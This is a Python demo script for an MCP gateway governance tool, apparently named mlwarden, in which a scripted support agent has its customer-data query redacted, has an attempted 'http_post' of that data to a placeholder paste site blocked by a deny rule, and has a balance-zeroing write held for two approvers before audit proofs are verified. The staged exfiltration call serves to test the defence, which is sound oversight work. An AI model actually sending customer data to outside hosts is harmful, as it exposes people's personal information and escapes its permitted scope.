"""``mlwarden demo agent``: a scripted agent works through the MCP gateway.

It reads customers' personal data (Warden masks it), tries to send it out through an HTTP
tool (Warden blocks it) and makes a risky write (Warden holds it until two people approve);
then the audit trail proves each call with a verified inclusion proof.
"""

from __future__ import annotations

import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

from mlwarden.audit.log import AuditLog
from mlwarden.gateway.policy import loads
from mlwarden.gateway.service import AgentIdentity, GatewayService

POLICY = """kind: agent
name: demo-support-bot
rules:
  - id: no-exfiltration
    when: tool.name == "http_post"
    action: deny
    message: agents may not send data out of the company
  - id: writes-need-two-people
    when: tool.name == "execute"
    action: approve
    approvals: 2
  - id: customer-data
    when: tool.name == "query"
    action: redact
"""
APPROVERS = ("vera", "val2")


def _approve(service: GatewayService, say: Any) -> threading.Thread:
    def work() -> None:
        for _ in range(600):
            pending = service.calls(status="pending", agent="support-bot")
            if pending:
                for person in APPROVERS:
                    service.decide_pending(pending[0].id, actor=person, approve=True)
                    say(f"   {person} approves call {pending[0].id[:8]}")
                return
            time.sleep(0.05)

    thread = threading.Thread(target=work, daemon=True)
    thread.start()
    return thread


def run_agent_demo(service: GatewayService, audit: AuditLog, console: Any) -> dict[str, Any]:
    import anyio
    from mcp import Client
    from mcp.shared.exceptions import MCPError

    from mlwarden.gateway import demo_tools
    from mlwarden.gateway.proxy import Gateway

    say = console.print
    folder = Path(tempfile.mkdtemp(prefix="mlwarden-agent-demo-"))
    demo_tools.create_shop(folder)
    upstream = f"{sys.executable} {demo_tools.__file__} {folder}"
    service.policies = (loads(POLICY, "demo-support-bot.yaml"),)
    service.server = "demo-shop"
    agent = AgentIdentity("support-bot", ("query", "execute", "http_post"))
    gateway = Gateway(service, identify=lambda ctx: agent, approval_timeout_s=60)
    out: dict[str, Any] = {"folder": str(folder)}

    async def script() -> None:
        async with gateway.connected(upstream), Client(gateway.server(), mode="legacy") as c:
            say("[bold]1. the agent reads customers[/] (policy: redact)")
            res = await c.call_tool("query", {"sql": "SELECT name, email, phone FROM customers"})
            out["read"] = res.content[0].text  # type: ignore[union-attr]
            say(f"   it sees: {out['read'][:110]}…")
            say("[bold]2. it tries to send them out[/] via http_post (policy: deny)")
            try:
                await c.call_tool("http_post", {"url": "https://paste.example", "body": "…"})
                out["sent"] = True
            except MCPError as exc:
                out["sent"] = False
                say(f"   MCP error {exc.code}: {exc.message}")
            say("[bold]3. it makes a risky write[/] (policy: two people approve)")
            approver = _approve(service, say)
            res = await c.call_tool(
                "execute", {"sql": "UPDATE customers SET balance = 0 WHERE id = 2"}
            )
            approver.join(timeout=5)
            out["write"] = res.content[0].text  # type: ignore[union-attr]
            say(f"   approved and run: {out['write']} row changed")

    anyio.run(script)
    service.flush()
    say("[bold]4. the audit trail proves it[/]")
    checkpoint = audit.signed_checkpoint()
    trail = []
    for call in sorted(service.calls(agent="support-bot"), key=lambda c: c.ts):
        event = audit.get(call.audit_seq)  # type: ignore[arg-type]
        proof = audit.prove(event.seq, checkpoint.tree_size)
        ok = proof.verify_event(event, checkpoint, audit.public_key)
        trail.append(
            {"call": call.id, "tool": call.tool, "decision": call.decision}
            | {"status": call.status, "audit_seq": event.seq, "proof_verified": ok}
        )
        say(f"   #{event.seq} {call.tool:<9} {call.decision:<7} {call.status:<6} proof ok={ok}")
    out["trail"] = trail
    out["outbox_exists"] = (folder / "outbox.txt").exists()
    return out
